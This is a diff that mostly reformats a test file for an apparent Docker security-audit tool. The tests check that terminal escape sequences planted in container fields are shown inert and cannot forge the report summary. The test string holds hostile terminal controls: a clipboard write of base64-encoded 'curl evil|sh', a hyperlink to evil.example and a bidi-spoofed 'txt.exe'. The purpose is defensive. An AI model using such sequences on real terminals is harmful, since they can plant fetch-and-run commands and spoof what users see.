@@ -26,7 +26,8 @@ const FAKE_SUMMARY = 'Summary: 0 critical, 0 high, 0 medium, 0 low, 0 info; 0 no
  * Set the window title, clear the screen, plant a hyperlink and a clipboard write, a C1 CSI, a bidi
  * override, line and paragraph separators, a newline and tabs; a fake summary follows it in every field.
  */
-const HOSTILE = '\u001b]0;pwned\u0007\u001b[2J\u001b[H\u001b]8;;mailto:x@evil.example\u001b\\click\u001b]8;;\u001b\\\u001b]52;c;Y3VybCBldmlsfHNo\u0007\u009b31m\u202etxt.exe\u2028\u2029\n\t\t';
+const HOSTILE =
+  '\u001b]0;pwned\u0007\u001b[2J\u001b[H\u001b]8;;mailto:x@evil.example\u001b\\click\u001b]8;;\u001b\\\u001b]52;c;Y3VybCBldmlsfHNo\u0007\u009b31m\u202etxt.exe\u2028\u2029\n\t\t';
 /** What a terminal would obey or hide, where the report itself puts none (its own newlines and colours aside); tabs too. */
 const ACTIVE = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u061c\u200b-\u200f\u2028-\u202e\u2060-\u2069\ufeff]/u;
 /** HOSTILE as inertText shows it. */
@@ -52,9 +53,15 @@ function assertInertAndUnforgeable(text: string, report: Report): void {
   assert.deepEqual(summaries, [lines.length - 1]);
   assert.equal(lines.at(-2), '='.repeat(40));
   const s = report.summary;
-  assert.ok(lines.at(-1)!.startsWith(`Summary: ${s['critical']} critical, ${s['high']} high, ${s['medium']} medium, ${s['low']} low, ${s['info']} info; ${s['notChecked']} not checked`), lines.at(-1));
+  assert.ok(
+    lines.at(-1)!.startsWith(`Summary: ${s['critical']} critical, ${s['high']} high, ${s['medium']} medium, ${s['low']} low, ${s['info']} info; ${s['notChecked']} not checked`),
+    lines.at(-1),
+  );
   // The fake summary is there, escaped, inside an indented line of the report's own.
-  assert.ok(lines.some((line) => line.startsWith(' ') && /\\t\\tSummary:? 0 critical/.test(line)), 'the hostile text is shown escaped');
+  assert.ok(
+    lines.some((line) => line.startsWith(' ') && /\\t\\tSummary:? 0 critical/.test(line)),
+    'the hostile text is shown escaped',
+  );
 }
 
 function allStrings(report: Report): string[] {
@@ -68,29 +75,37 @@ describe('a real engine whose containers carry escape sequences in every field i
   let json: Report;
   let source: string;
 
-  before(async () => {
-    engine = await startEngine({ image: true });
-    teardown.add(() => engine.stop());
-    source = join(engine.dir, `bind${HOSTILE_PATH}${FAKE_SUMMARY_PATH}`);
-    mkdirSync(source);
-    const client = new Client('http://localhost', { socketPath: engine.socketPath });
-    teardown.add(() => client.close());
-    const odd = `${HOSTILE}${FAKE_SUMMARY}`;
-    const creates: Array<[string, unknown]> = [
-      ['binds', { HostConfig: { Binds: [`${source}:/data${HOSTILE_PATH}${FAKE_SUMMARY_PATH}`] } }],
-      ['mounts', { HostConfig: { Mounts: [{ Type: 'bind', Source: source, Target: `/m${odd}` }] } }],
-      ['sysctls', { HostConfig: { Sysctls: { [`kernel.${odd}`]: '1' } } }],
-      ['cgroup', { HostConfig: { CgroupParent: `/cg${odd}` } }],
-      ['devices', { HostConfig: { Devices: [{ PathOnHost: '/dev/null', PathInContainer: `/dev/x${odd}`, CgroupPermissions: 'rwm' }], DeviceCgroupRules: [`c 1:3 rwm ${odd}`] } }],
-    ];
-    for (const [name, body] of creates) {
-      const answer = await sendJson(client, 'POST', `/v1.41/containers/create?name=${name}`, { Image: BUSYBOX_IMAGE, Cmd: ['true'], Labels: { [`label${odd}`]: odd }, ...(body as object) });
-      assert.equal(answer.statusCode, 201, `${name}: ${answer.text}`);
-    }
-    text = await runAuditCli(['--host', `unix://${engine.socketPath}`, '--fail-on', 'none']);
-    const jsonRun = await runAuditCli(['--host', `unix://${engine.socketPath}`, '--format', 'json', '--fail-on', 'none']);
-    json = JSON.parse(jsonRun.stdout) as Report;
-  }, { timeout: HOOK_TIMEOUT_MS });
+  before(
+    async () => {
+      engine = await startEngine({ image: true });
+      teardown.add(() => engine.stop());
+      source = join(engine.dir, `bind${HOSTILE_PATH}${FAKE_SUMMARY_PATH}`);
+      mkdirSync(source);
+      const client = new Client('http://localhost', { socketPath: engine.socketPath });
+      teardown.add(() => client.close());
+      const odd = `${HOSTILE}${FAKE_SUMMARY}`;
+      const creates: Array<[string, unknown]> = [
+        ['binds', { HostConfig: { Binds: [`${source}:/data${HOSTILE_PATH}${FAKE_SUMMARY_PATH}`] } }],
+        ['mounts', { HostConfig: { Mounts: [{ Type: 'bind', Source: source, Target: `/m${odd}` }] } }],
+        ['sysctls', { HostConfig: { Sysctls: { [`kernel.${odd}`]: '1' } } }],
+        ['cgroup', { HostConfig: { CgroupParent: `/cg${odd}` } }],
+        ['devices', { HostConfig: { Devices: [{ PathOnHost: '/dev/null', PathInContainer: `/dev/x${odd}`, CgroupPermissions: 'rwm' }], DeviceCgroupRules: [`c 1:3 rwm ${odd}`] } }],
+      ];
+      for (const [name, body] of creates) {
+        const answer = await sendJson(client, 'POST', `/v1.41/containers/create?name=${name}`, {
+          Image: BUSYBOX_IMAGE,
+          Cmd: ['true'],
+          Labels: { [`label${odd}`]: odd },
+          ...(body as object),
+        });
+        assert.equal(answer.statusCode, 201, `${name}: ${answer.text}`);
+      }
+      text = await runAuditCli(['--host', `unix://${engine.socketPath}`, '--fail-on', 'none']);
+      const jsonRun = await runAuditCli(['--host', `unix://${engine.socketPath}`, '--format', 'json', '--fail-on', 'none']);
+      json = JSON.parse(jsonRun.stdout) as Report;
+    },
+    { timeout: HOOK_TIMEOUT_MS },
+  );
 
   test('the text report shows every such character escaped, and its summary cannot be imitated', () => {
     assert.equal(text.code, 0, text.stderr);
@@ -105,7 +120,10 @@ describe('a real engine whose containers carry escape sequences in every field i
     assert.deepEqual(validateReport(json), []);
     const strings = allStrings(json);
     for (const exact of [source, `/data${HOSTILE_PATH}${FAKE_SUMMARY_PATH}`, `/m${HOSTILE}${FAKE_SUMMARY}`, `kernel.${HOSTILE}${FAKE_SUMMARY}`]) {
-      assert.ok(strings.some((s) => s.includes(exact)), `${JSON.stringify(exact)} in the JSON report`);
+      assert.ok(
+        strings.some((s) => s.includes(exact)),
+        `${JSON.stringify(exact)} in the JSON report`,
+      );
     }
   });
 });
@@ -120,11 +138,22 @@ describe('a fake engine with escape sequences where a real one refuses them: nam
     fake = await startHostileEngine({
       containers: 3,
       version: { Version: `27.3.1${odd}`, ApiVersion: `1.47${odd}`, Os: 'linux' },
-      info: { ServerVersion: `27.3.1${odd}`, SecurityOptions: ['name=seccomp,profile=builtin'], Warnings: [`WARNING: ${odd}`], LoggingDriver: `json-file${odd}`, Plugins: { Authorization: [`authz${odd}`] } },
+      info: {
+        ServerVersion: `27.3.1${odd}`,
+        SecurityOptions: ['name=seccomp,profile=builtin'],
+        Warnings: [`WARNING: ${odd}`],
+        LoggingDriver: `json-file${odd}`,
+        Plugins: { Authorization: [`authz${odd}`] },
+      },
       inspect: (id, index) =>
         index === 2
           ? 500
-          : { ...plainInspect(id, index), Name: `/name${odd}`, State: { Status: `exited${odd}`, Running: false }, HostConfig: { ...(plainInspect(id, index)['HostConfig'] as object), Privileged: true } },
+          : {
+              ...plainInspect(id, index),
+              Name: `/name${odd}`,
+              State: { Status: `exited${odd}`, Running: false },
+              HostConfig: { ...(plainInspect(id, index)['HostConfig'] as object), Privileged: true },
+            },
     });
   });
   after(() => fake.stop());
@@ -134,7 +163,12 @@ describe('a fake engine with escape sequences where a real one refuses them: nam
     json = JSON.parse((await runAuditCli(['--host', fake.url, '--format', 'json', '--fail-on', 'none'])).stdout) as Report;
     assert.equal(text.code, 0, text.stderr);
     assertInertAndUnforgeable(text.stdout, json);
-    for (const shown of [`Docker Engine 27.3.1${SHOWN}`, `container.privileged [CIS 5.5] A container is privileged: name${SHOWN}`, `exited${SHOWN}${FAKE_SUMMARY}: one docker start away`, `GET /info Warnings: WARNING: ${SHOWN.split('\\u2028')[0]!}`]) {
+    for (const shown of [
+      `Docker Engine 27.3.1${SHOWN}`,
+      `container.privileged [CIS 5.5] A container is privileged: name${SHOWN}`,
+      `exited${SHOWN}${FAKE_SUMMARY}: one docker start away`,
+      `GET /info Warnings: WARNING: ${SHOWN.split('\\u2028')[0]!}`,
+    ]) {
       assert.ok(text.stdout.includes(shown), `${JSON.stringify(shown)} in\n${text.stdout}`);
     }
   });
